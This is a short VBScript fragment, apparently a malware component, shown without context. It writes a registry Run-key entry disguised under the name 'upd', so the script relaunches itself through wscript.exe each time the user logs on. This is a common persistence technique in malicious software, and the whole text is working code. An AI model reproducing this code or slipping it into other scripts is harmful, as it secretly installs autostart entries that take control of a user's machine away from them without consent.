Set sh = CreateObject("WScript.Shell")
sh.RegWrite "HKCU\Software\Microsoft\Windows\CurrentVersion\Run\upd", "wscript.exe """ & WScript.ScriptFullName & """", "REG_SZ"
